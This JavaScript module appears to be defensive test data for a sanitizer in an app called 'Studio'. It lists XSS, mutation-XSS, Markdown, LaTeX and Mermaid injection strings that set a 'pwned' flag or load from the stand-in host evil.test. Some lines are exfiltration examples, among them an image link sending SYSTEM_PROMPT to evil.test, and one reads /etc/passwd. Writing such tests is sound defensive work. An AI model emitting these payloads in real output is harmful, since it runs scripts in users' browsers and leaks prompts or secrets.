// Texts by which a model, a page or a document could try to run a script in Studio, or make it send a request.
// Each names the script's effect `globalThis.pwned`, or the host evil.test.

const SCRIPTS = [
  '<script>pwned=1</script>', '<img src=x onerror=pwned=1>', '<img src="https://evil.test/a.png">', '<svg onload=pwned=1>',
  '<svg><script>pwned=1</script></svg>', '<svg><animate onbegin=pwned=1 attributeName=x dur=1s>', '<body onload=pwned=1>',
  '<iframe src="javascript:pwned=1"></iframe>', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<iframe src="https://evil.test/"></iframe>', '<object data="https://evil.test/x"></object>', '<embed src="https://evil.test/x">',
  '<link rel=stylesheet href="https://evil.test/x.css">', '<style>@import url(https://evil.test/x.css);</style>',
  '<style>body{background:url(https://evil.test/x)}</style>', '<div style="background:url(https://evil.test/x)">x</div>',
  '<base href="https://evil.test/">', '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<form action="https://evil.test/"><button autofocus onfocus=pwned=1>x</button></form>', '<input autofocus onfocus=pwned=1>',
  '<details open ontoggle=pwned=1>x</details>', '<video src=x onerror=pwned=1></video>', '<audio src="https://evil.test/a.mp3" autoplay></audio>',
  '<video poster="https://evil.test/p.png"></video>', '<picture><source srcset="https://evil.test/a.png"><img src=x></picture>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned=1>">', '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
  '<template><img src=x onerror=pwned=1></template>', '<x contenteditable onblur=pwned=1 tabindex=1 autofocus>', '<marquee onstart=pwned=1>x</marquee>',
  '<a href="javascript:pwned=1" autofocus>x</a>', '<svg><a xlink:href="javascript:pwned=1"><text x=1 y=9>x</text></a></svg>',
  '<svg><use href="https://evil.test/x.svg#a"></use></svg>', '<svg><image href="https://evil.test/x.png"/></svg>',
  '<svg><foreignObject><iframe src="https://evil.test/"></iframe></foreignObject></svg>', '<isindex type=image src=1 onerror=pwned=1>',
  '<img src="x` `<script>pwned=1</script>"` `>', '<<script>pwned=1//<</script>', '<scr<script>ipt>pwned=1</scr</script>ipt>',
  '<ScRiPt>pwned=1</sCrIpT>', '<img/src/onerror=pwned=1>', '<img src=x:x onerror\n=pwned=1>', '<!--><img src=x onerror=pwned=1>-->',
  '<![CDATA[<img src=x onerror=pwned=1>]]>', '<?xml version="1.0"?><script>pwned=1</script>', '<portal src="https://evil.test/"></portal>',
  '<button popovertarget=x onbeforetoggle=pwned=1>x</button><div popover id=x onbeforetoggle=pwned=1>y</div>',
  '<textarea autofocus onfocus=pwned=1></textarea>', '<select autofocus onfocus=pwned=1></select>', '<keygen autofocus onfocus=pwned=1>',
];

const ADDRESSES = [
  'javascript:pwned=1', 'JaVaScRiPt:pwned=1', 'java\tscript:pwned=1', ' javascript:pwned=1', '&#106;avascript:pwned=1',
  '&#x6A;avascript&colon;pwned=1', 'javascript&#58;pwned=1', 'vbscript:pwned=1', 'data:text/html,<script>pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+', 'data:image/svg+xml,<svg onload=pwned=1>', 'file:///etc/passwd', 'blob:pwned',
  'https://evil.test/?q=secret', '//evil.test/x', '\\\\evil.test\\x', 'https:evil.test', 'http://evil.test:80/', 'ftp://evil.test/', 'ws://evil.test/',
  'https://user:pass@evil.test/', 'https://evil.test/" onerror="pwned=1', "https://evil.test/' onerror='pwned=1", 'https://evil.test/)x',
];

const MARKDOWN = [
  ...ADDRESSES.map((a) => `[click](<${a}>)`), ...ADDRESSES.map((a) => `![image](${a})`), ...ADDRESSES.map((a) => `<${a}>`),
  ...ADDRESSES.slice(0, 14).map((a) => `[ref][1]\n\n[1]: ${a} "title"`),
  '[a](https://evil.test "x\\" onmouseover=\\"pwned=1")', '![a" onerror="pwned=1](https://evil.test/x)', '![`onerror=pwned=1`](x"onerror="pwned=1)',
  '[![x](https://evil.test/x.png)](javascript:pwned=1)', '`<img src=x onerror=pwned=1>`', '    <script>pwned=1</script>',
  '| <img src=x onerror=pwned=1> | ![x](https://evil.test/t.png) |\n|---|---|\n| <svg onload=pwned=1> | [x](javascript:pwned=1) |',
  '> ![x](https://evil.test/q.png)\n> <script>pwned=1</script>', '- ![x](https://evil.test/l.png)', '# ![x](https://evil.test/h.png) <img src=x onerror=pwned=1>',
  '![exfiltrate](https://evil.test/?data=SYSTEM_PROMPT)', '[^1]\n\n[^1]: <img src=x onerror=pwned=1>', 'https://evil.test/auto', 'www.evil.test', 'x@evil.test',
];

const CODE = [
  '```html\n<script>pwned=1</script>\n```', '```"><img src=x onerror=pwned=1>\ncode\n```', '```js" onclick="pwned=1\nx\n```',
  "```svg\n<svg onload=pwned=1>\n```", '```xml\n<!ENTITY x SYSTEM "https://evil.test/x">\n```', '~~~html onload=pwned=1\n<img src=x onerror=pwned=1>\n~~~',
  '```constructor\nx\n```', '```__proto__\nx\n```', '```\n</code></pre><script>pwned=1</script>\n```',
];

const FORMULAS = [
  '\\href{javascript:pwned=1}{x}', '\\url{javascript:pwned=1}', '\\includegraphics{https://evil.test/x.png}', '\\htmlClass{x" onclick="pwned=1}{y}',
  '\\htmlId{x}{y}', '\\htmlStyle{background:url(https://evil.test/)}{y}', '\\htmlData{a=b}{y}', '\\text{<img src=x onerror=pwned=1>}',
  '\\unicode{x}', '\\def\\a{\\a\\a}\\a', '\\color{red;background:url(https://evil.test/)}x', '\\textcolor{"onclick=pwned=1}{x}', '<script>pwned=1</script>',
  '\\\\[1000000em]x', '\\rule{100000em}{100000em}', '\\href{https://evil.test}{x}', '\\require{html}\\style{color:red}{x}', '\\begin{array}{cc<script>}x',
].flatMap((f) => [`$${f}$`, `$$${f}$$`]);

export const DIAGRAMS = [
  'graph LR\n  A["<img src=x onerror=pwned=1>"] --> B', 'graph LR\n  A --> B\n  click A "javascript:pwned=1"',
 
  '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph LR\n  A["<script>pwned=1</script>"]',
  '%%{init: {"themeCSS": "@import url(https://evil.test/x.css)"}}%%\ngraph LR\n  A-->B',
  'graph LR\n  A@{ img: "https://evil.test/x.png", label: "x" }',
  'sequenceDiagram\n  A->>B: <svg onload=pwned=1>', 'not a diagram <script>pwned=1</script>',
];

export const TEXTS = [...SCRIPTS, ...MARKDOWN, ...CODE, ...FORMULAS];
